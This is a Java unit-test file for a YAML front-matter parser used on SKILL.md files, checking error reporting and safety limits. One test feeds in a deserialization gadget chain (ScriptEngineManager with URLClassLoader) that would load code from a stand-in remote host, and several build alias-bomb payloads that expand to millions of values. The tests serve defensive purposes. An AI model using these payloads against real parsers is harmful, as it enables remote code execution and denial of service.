package dev.sitegen.model;

import dev.sitegen.problem.Problem;
import dev.sitegen.problem.Problems;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class YamlMappingTest {

    private static final Path FILE = Path.of("/c/SKILL.md");
    private final Problems problems = new Problems();

    /** Front matter starts on line 2 of a SKILL.md, after the opening ---. */
    private Optional<YamlMapping> parse(String yaml) {
        return YamlMapping.parse(yaml, FILE, 2, problems);
    }

    private Problem only() {
        List<Problem> all = problems.sorted();
        assertEquals(1, all.size(), () -> "problems: " + all);
        return all.get(0);
    }

    @Test
    void keepsScalarsAsWritten() {
        YamlMapping yaml = parse("version: 1.10\nupdated: 2025-11-24\nflag: yes\n").orElseThrow();
        assertEquals("1.10", yaml.text("version", problems).orElseThrow());
        assertEquals("2025-11-24", yaml.text("updated", problems).orElseThrow());
        assertEquals(true, yaml.bool("flag", problems).orElseThrow());
    }

    @Test
    void readsAValueWithAColonAsTextAsClaudeCodeDoesAndWarnsWhereItStarts() {
        YamlMapping yaml = parse("name: x\ndescription: Use when: the user asks for a PDF\nlicense: MIT\n").orElseThrow();
        assertEquals("Use when: the user asks for a PDF", yaml.text("description", problems).orElseThrow());
        assertEquals("MIT", yaml.text("license", problems).orElseThrow(), "the keys after it are read too");
        Problem problem = only();
        assertEquals("yaml-unquoted", problem.code());
        assertFalse(problem.isError(), "Claude Code loads the skill, so the site shows it");
        assertEquals(3, problem.location().line());
        assertEquals(14, problem.location().column(), "where the value starts");
        assertEquals("Put the value in double quotes: description: \"...\"", problem.fix());
    }

    @Test
    void quotesAValueThatRunsOnOverDeeperLinesAsOneAndKeepsItsApostrophes() {
        YamlMapping yaml = parse("description: Don't use this skill\n  when: the user asks\n\n  for PDFs\nmetadata:\n  tags: [a, b]\n").orElseThrow();
        assertEquals("Don't use this skill when: the user asks\nfor PDFs", yaml.text("description", problems).orElseThrow());
        assertEquals(List.of("a", "b"), yaml.mapping("metadata", problems).orElseThrow()
                .list("tags", SkillMetadataReader::commaSeparated, problems).orElseThrow());
        assertEquals(2, only().location().line());
    }

    @Test
    void readsValuesThatStartWithWhatYamlKeepsForItselfAsText() {
        YamlMapping yaml = parse("name: x\ndescription: @State and @Binding in SwiftUI\nstatus: [WIP] drafting\n").orElseThrow();
        assertEquals("@State and @Binding in SwiftUI", yaml.text("description", problems).orElseThrow());
        assertEquals("[WIP] drafting", yaml.text("status", problems).orElseThrow());
        assertEquals(List.of(3, 4), problems.sorted().stream().map(p -> p.location().line()).toList());
    }

    @Test
    void leavesWhatQuotingCannotMendAnErrorAtItsLine() {
        assertTrue(parse("name: x\ntags: [a, b\ndescription: Use when: asked\n").isEmpty(), "a list left open is not text");
        Problem problem = only();
        assertEquals("yaml-syntax", problem.code());
        assertTrue(problem.isError());
    }

    @Test
    void reportsAMappingLeftOpenWhereItOpensNotAsAValueToQuote() {
        assertTrue(parse("name: x\nmetadata: { \"otto\": { \"emoji\": \"x\" }\nlicense: MIT\n").isEmpty(),
                "a mapping left open is not text, though it holds \": \"");
        Problem problem = only();
        assertEquals("yaml-syntax", problem.code());
        assertEquals(3, problem.location().line(), "the line the { opens on, not the line YAML fails on");
        assertEquals(11, problem.location().column());
        assertTrue(problem.message().contains("the { opened here is not closed"), problem.message());
    }

    @Test
    void reportsAListLeftOpenWhereItOpensThoughYamlFailsFurtherAlongTheNextKeysLine() {
        assertTrue(parse("name: x\nversion: [oops\nstatus: ok\n").isEmpty());
        Problem problem = only();
        assertEquals(3, problem.location().line(), "the line the [ opens on, not the next key's, where YAML fails at its colon");
        assertTrue(problem.message().contains("the [ opened here is not closed"), problem.message());
    }

    @Test
    void reportsAMistakeInsideAListSpreadOverLinesWhereItIs() {
        assertTrue(parse("name: x\ntags: [\n  \"a\"\n  \"b\"\n]\n").isEmpty());
        Problem problem = only();
        assertEquals(5, problem.location().line(), "the item after the missing comma, not the bracket");
        assertFalse(problem.message().contains("not closed"), problem.message());
    }

    @Test
    void reportsAnUnclosedQuoteWhereItOpens() {
        assertTrue(parse("name: x\ndescription: \"never closed\ntags: [a]\n").isEmpty());
        Problem problem = only();
        assertEquals("yaml-syntax", problem.code());
        assertEquals(3, problem.location().line(), "the opening quote's line, not the end of the front matter");
        assertEquals(14, problem.location().column());
    }

    @Test
    void reportsAQuoteThatRanOnToTheNextKeyWhereItOpens() {
        assertTrue(parse("version: 1.0.0\nname: \"brainstorming\ndescription: \"Ideas into designs.\"\n").isEmpty());
        Problem problem = only();
        assertEquals("yaml-syntax", problem.code());
        assertEquals(3, problem.location().line(), "the line of name's opening quote, not description's where YAML fails");
        assertEquals(7, problem.location().column());
        assertTrue(problem.message().contains("runs on to line 4"), problem.message());
    }

    @Test
    void blamesNoQuoteThatClosedOnAnEarlierLine() {
        assertTrue(parse("description: \"two\n  lines\"\nname: x\n\tversion: 1\n").isEmpty(), "a quoted value may span lines");
        Problem problem = only();
        assertEquals(5, problem.location().line(), "the tab, below the quoted value");
        assertFalse(problem.message().contains("quote"), problem.message());
    }

    @Test
    void reportsATabAtItsLineAndColumn() {
        assertTrue(parse("name: x\n\tdescription: y\n").isEmpty());
        Problem problem = only();
        assertEquals("yaml-syntax", problem.code());
        assertEquals(3, problem.location().line());
        assertEquals(1, problem.location().column());
    }

    @Test
    void reportsBadIndentation() {
        assertTrue(parse("metadata:\n  version: 1\n category: x\n").isEmpty());
        assertEquals("yaml-syntax", only().code());
    }

    @Test
    void reportsTheSecondOfTwoEqualKeys() {
        YamlMapping yaml = parse("name: a\ndescription: d\nname: b\n").orElseThrow();
        Problem problem = only();
        assertEquals("yaml-duplicate-key", problem.code());
        assertEquals(4, problem.location().line());
        assertEquals("a", yaml.text("name", problems).orElseThrow(), "the first value is kept");
    }

    @Test
    void neverConstructsGlobalTags() {
        YamlMapping yaml = parse("name: x\nexploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n")
                .orElseThrow();
        assertEquals("yaml-tag", problems.sorted().get(0).code());
        assertFalse(yaml.has("exploit"), "the tagged value is ignored");
        assertEquals(Map.of(), yaml.unread().entrySet().stream().filter(e -> !e.getKey().equals("name"))
                .collect(java.util.stream.Collectors.toMap(Map.Entry::getKey, Map.Entry::getValue)));
    }

    @Test
    void refusesAnAliasBomb() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append("]\n");
        }
        assertTrue(parse(bomb.toString()).isEmpty());
        Problem problem = only();
        assertEquals("yaml-too-large", problem.code());
        assertTrue(problem.message().startsWith("The YAML repeats lists or mappings through more than 20 aliases"), problem.message());
    }

    @Test
    void refusesAFewAliasesToALongListThatExpandToMillionsOfValues() {
        StringBuilder bomb = new StringBuilder("name: x\na: &a [" + "x,".repeat(99_999) + "x]\n");
        for (char c = 'b'; c <= 'g'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *").append(p).append("]\n");
        }
        assertTrue(parse(bomb.toString()).isEmpty(), "18 aliases, under the alias limit, yet 73 million values");
        Problem problem = only();
        assertEquals("yaml-too-large", problem.code());
        assertEquals(3, problem.location().line(), "at the list the aliases repeat");
    }

    @Test
    void refusesAliasesToALongStringThatExpandToGigabytes() {
        String bomb = "name: x\nbase: &b {a: 1}\ncopy: *b\nbig: &a \"" + "x".repeat(100_000) + "\"\nmany: [" + "*a,".repeat(24_999) + "*a]\n";
        assertTrue(parse(bomb).isEmpty(), "25,000 aliases of a string are no collections, yet 2.5 billion characters");
        Problem problem = only();
        assertEquals("yaml-too-large", problem.code());
        assertEquals(5, problem.location().line(), "at the string the aliases repeat, not an innocent anchor before it");
        assertTrue(problem.message().contains("grows past 2,000,000 characters"), problem.message());
    }

    @Test
    void refusesAnAliasInsideItsOwnAnchorWhichExpandsWithoutEnd() {
        assertTrue(parse("name: x\na: &a [lol, *a, *a]\n").isEmpty(), "found by FrontMatterFuzzTest");
        assertEquals("yaml-too-large", only().code());
    }

    @Test
    void readsAliasesThatStayWithinTheLimit() {
        YamlMapping yaml = parse("base: &base [a, b]\ntags: *base\nmore: [*base, *base]\n").orElseThrow();
        assertEquals(List.of("a", "b"), yaml.list("tags", SkillMetadataReader::commaSeparated, problems).orElseThrow());
        assertEquals(List.of(), problems.sorted());
    }

    @Test
    void refusesATopLevelThatIsNotAMapping() {
        assertTrue(parse("- a\n- b\n").isEmpty());
        assertEquals("yaml-not-mapping", only().code());
    }

    @Test
    void splitsListsWrittenAsText() {
        YamlMapping yaml = parse("tags: \"a, b ,, c\"\nlist: [x, y]\n").orElseThrow();
        assertEquals(List.of("a", "b", "c"), yaml.list("tags", SkillMetadataReader::commaSeparated, problems).orElseThrow());
        assertEquals(List.of("x", "y"), yaml.list("list", SkillMetadataReader::commaSeparated, problems).orElseThrow());
    }

    @Test
    void givesTheKeysNobodyRead() {
        YamlMapping yaml = parse("name: a\nauthor: me\nextra: {k: v}\n").orElseThrow();
        yaml.text("name", problems);
        assertEquals(List.of("author", "extra"), List.copyOf(yaml.unread().keySet()));
        assertEquals(Map.of("k", "v"), yaml.unread().get("extra"));
    }

    @Test
    void replacesControlCharactersWrittenAsEscapes() {
        YamlMapping yaml = parse("name: x\ndescription: \"red \\e[31m and \\x01\"\n\"k\\x07\": v\n").orElseThrow();
        assertEquals("red \uFFFD[31m and \uFFFD", yaml.text("description", problems).orElseThrow());
        assertEquals(List.of("k\uFFFD"), List.copyOf(yaml.unread().keySet().stream().filter(k -> !k.equals("name")).toList()));
        List<Problem> all = problems.sorted();
        assertEquals(List.of("control-character", "control-character"), all.stream().map(Problem::code).toList());
        assertEquals(List.of(3, 4), all.stream().map(p -> p.location().line()).toList());
    }
}
